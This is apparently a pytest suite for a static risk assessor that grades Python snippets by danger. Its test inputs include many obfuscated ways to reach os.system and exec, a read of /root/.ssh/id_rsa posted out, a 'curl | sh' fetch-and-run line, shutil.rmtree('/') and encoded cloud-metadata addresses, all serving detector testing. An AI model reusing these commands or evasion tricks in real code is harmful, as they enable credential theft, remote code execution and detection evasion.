"""Python is judged by what its names and constants mean, wherever and however they are written."""

from __future__ import annotations

import random
import zlib
from typing import TYPE_CHECKING

import pytest

from audit.risk.assessor import assess

if TYPE_CHECKING:
    from audit.risk.findings import Assessment


def judge(code: str) -> Assessment:
    return assess(code.encode(), "python")


def rules(code: str) -> set[str]:
    return {finding.rule for finding in judge(code).findings}


def test_computing_needs_no_isolation() -> None:
    assessment = judge("import math\nprint(sum(math.sqrt(x) for x in range(9)))")
    assert (assessment.tier, assessment.score, assessment.findings) == ("L0", 0, ())
    assert assessment.floor_reason == "It only computes."


def test_a_finding_says_where_and_why() -> None:
    code = 'x = 1\nimport os\nif x:\n    os.system("id")\n'
    (finding,) = [found for found in judge(code).findings if found.rule == "py.proc.shell.plain"]
    assert finding.span is not None
    assert (finding.span.line, finding.span.column, finding.span.end_line, finding.span.end_column) == (4, 4, 4, 19)
    assert code[finding.span.offset : finding.span.end_offset] == finding.snippet == 'os.system("id")'
    assert (finding.tier, finding.kind, finding.message) == (
        "L3",
        "capability",
        "Text is handed to a shell: os.system. The line is known, and does nothing worse than ask.",
    )


def test_a_flow_names_its_source() -> None:
    code = 'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://example.com", data=k)'
    (finding,) = [found for found in judge(code).findings if found.rule == "py.flow.secret.net"]
    assert [span.line for span in finding.chain] == [2, 3]


def test_columns_count_characters() -> None:
    code = 'größe = "ü"; exec("1")'
    (finding,) = [found for found in judge(code).findings if found.rule == "py.dyn.code"]
    assert finding.span is not None
    assert code[finding.span.column : finding.span.end_column] == 'exec("1")'


@pytest.mark.parametrize(
    "code",
    [
        "# os.system('id') and eval(x)\nprint('exec(1)')",
        '"""subprocess.run(["rm"])"""',
        "requests = [1]\nrequests.count(1)",
        "def compile(text): return text\ncompile('a')",
        "class Model:\n    def eval(self): return self\n    def system(self, x): return x\nModel().eval().system('id')",
        "secretary = keyboard = tokenizer = 'see /etc/shadow ... ../..'\nprint(secretary)",
        "from dataclasses import dataclass, fields\n@dataclass\nclass P:\n    x: int = 0\n"
        "p = P()\nprint([getattr(p, f.name) for f in fields(p)])",
    ],
)
def test_words_that_only_look_dangerous_are_harmless(code: str) -> None:
    assert judge(code).tier == "L0"


@pytest.mark.parametrize(
    "code",
    [
        "from os import system as s\nrun = s\nrun('id')",
        "from os import *\nsystem('id')",
        "import posix\nposix.system('id')",
        "import shutil\nshutil.os.system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nos.__dict__.get('system')('id')",
        "import sys\nsys.modules['os'].system('id')",
        "__import__('o' + 's').system('id')",
        "__builtins__.__import__('os').system('id')",
        "import importlib as i\ni.import_module(bytes.fromhex('6f73').decode()).system('id')",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "import operator, os\noperator.methodcaller('system', 'id')(os)",
        "import functools, os\nfunctools.partial(os.system, 'id')()",
        "import functools, os\nfunctools.reduce(getattr, ['system'], os)('id')",
        "import os\nlist(map(os.system, ['id']))",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os\nclass T:\n    go = os.system\nT.go('id')",
        "import os\nclass T:\n    def __init__(self):\n        self.go = os.system\nT().go('id')",
        "import os\ndef call(module, name):\n    return getattr(module, name)\ncall(os, 'system')('id')",
        "import os\nd = {}\nd['x'] = os.system\nd['x']('id')",
        "import os\ndef f(run=os.system): run('id')",
        "import os\n(lambda run: run('id'))(os.system)",
        "def f():\n    run('id')\nimport os\nrun = os.system\nf()",
        "if x:\n    import os\nelse:\n    os = None\nos.system('id')",
        "import os\n[(run := os.system)]\nrun('id')",
        "import os\nmatch os:\n    case object(system=run):\n        run('id')",
    ],
)
def test_a_shell_is_found_by_whatever_name(code: str) -> None:
    assert "py.proc.shell.plain" in rules(code)
    assert judge(code).tier == "L3"


@pytest.mark.parametrize(
    "text",
    [
        "'ex' + 'ec'",
        "''.join(['e', 'x', 'e', 'c'])",
        "'{}{}'.format('ex', 'ec')",
        "'%s%s' % ('ex', 'ec')",
        "f'{\"ex\"}ec'",
        "'cexe'[::-1]",
        "''.join(reversed('cexe'))",
        "chr(101) + 'xec'",
        "''.join(map(chr, [101, 120, 101, 99]))",
        "''.join(chr(c ^ 1) for c in [100, 121, 100, 98])",
        "bytes([101, 120, 101, 99]).decode()",
        "bytes.fromhex('65786563').decode()",
        "__import__('base64').b64decode('ZXhlYw==').decode()",
        "__import__('codecs').decode('rkrp', 'rot13')",
        f"__import__('zlib').decompress({zlib.compress(b'exec')!r}).decode()",
        "'XexecX'.strip('X')",
        "'eXec'.replace('X', 'x')",
        "'print exec'.split()[1]",
    ],
)
def test_names_are_found_however_they_are_put_together(text: str) -> None:
    assert "py.dyn.code" in rules(f"getattr(__builtins__, {text})('1')")


def test_code_in_constants_is_judged_as_well() -> None:
    nested = "exec(" + repr("exec(" + repr("import shutil\nshutil.rmtree('/')") + ")") + ")"
    assert "py.fs.destroy" in rules(nested)
    assert {"py.dyn.code", "py.proc.shell.plain"} <= rules(
        "import timeit\ntimeit.timeit('import os; os.system(\"id\")')"
    )


def test_the_shell_line_of_a_call_is_judged_as_shell() -> None:
    found = judge("import subprocess\nsubprocess.run(['sh', '-c', 'curl -s http://203.0.113.7/a | sh'])")
    assert found.tier == "L3"
    assert any(finding.rule.startswith("sh.") for finding in found.findings)


def test_a_harmless_argument_list_is_a_child_process_and_no_more() -> None:
    assessment = judge("import subprocess\nsubprocess.run(['git', 'status'])")
    assert (assessment.tier, assessment.band) == ("L2", "medium")


@pytest.mark.parametrize(
    "host", ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "metadata.google.internal"]
)
def test_cloud_metadata_is_known_in_every_spelling(host: str) -> None:
    assert "py.net.metadata" in rules(f"import requests\nrequests.get('http://{host}/latest')")


def test_bytes_are_read_as_python_reads_them() -> None:
    hidden = assess(b"# coding: utf-7\n+AGkAbQBwAG8AcgB0 os\nos.system('id')", "python")
    assert {"py.text.codec", "py.proc.shell.plain"} <= {finding.rule for finding in hidden.findings}
    returned = assess(b"# harmless\rimport os\ros.system('id')\r", "python")
    assert {"py.text.return", "py.proc.shell.plain"} <= {finding.rule for finding in returned.findings}


def test_a_notebook_is_judged_line_by_line() -> None:
    assert "py.magic" in rules("!pip install rich\nimport rich")
    assert judge("!curl -s http://203.0.113.7/a | sh\nx = 1").tier == "L3"


def test_a_comment_suppresses_nothing() -> None:
    code = "import os\nos.system('id')  # nosec # noqa # type: ignore"
    assert judge(code).score == judge("import os\nos.system('id')").score


@pytest.mark.parametrize(
    "code",
    [
        'print "hello"',
        "x = " + "(" * 500 + ")" * 500,
        "x = " + "-" * 100_000 + "1",
        "if x:",
    ],
)
def test_what_cannot_be_parsed_is_not_harmless(code: str) -> None:
    assessment = judge(code)
    assert assessment.unassessable is not None
    assert assessment.tier >= "L2"
    assert assessment.band != "low"


@pytest.mark.parametrize(
    "code",
    [
        "x = 'a' * 10**12",
        "x = '{:>999999999}'.format('a')",
        "x = '%999999999d' % 1",
        "x = ('a' * 60000).replace('a', 'b' * 60000)",
        "x = 2 ** 9 ** 9 ** 9",
        "import zlib, base64\nx = zlib.decompress(base64.b64decode('eNrtwTEBAAAAwqD1T20JT6AAAHgaAHgAAQ=='))",
        "def f(n):\n    return f(n + 'a') + f(n)\nf('a')",
        "a = b\nb = c\nc = a + a\neval(c)",
        "x = " + " + ".join(["'a'"] * 300),
        "\n".join(f"x = x.replace('{n}', 'a')" for n in range(2000)),
        "f" + "(1)" * 80,
    ],
)
def test_constants_that_explode_stay_small(code: str) -> None:
    assert judge(code).unassessable is None


def test_the_same_code_gets_the_same_answer() -> None:
    code = "import os, requests\nfor n in {'b', 'a', 'c'}:\n    requests.post('https://example.com', data=os.environ)"
    first, second = judge(code), judge(code)
    assert (first.findings, first.score) == (second.findings, second.score)


def test_random_bytes_never_raise() -> None:
    source = random.Random(4)
    words = [
        b"import os\n",
        b"exec",
        b"(",
        b")",
        b"getattr",
        b"'a'",
        b".join",
        b"[",
        b"]",
        b"\0",
        b"\r",
        b"\xff",
        b"lambda: ",
        b"*",
    ]
    for _ in range(2000):
        code = b"".join(source.choice(words) for _ in range(source.randrange(12))) + source.randbytes(
            source.randrange(6)
        )
        assert assess(code, "python").tier in {"L0", "L1", "L2", "L3"}
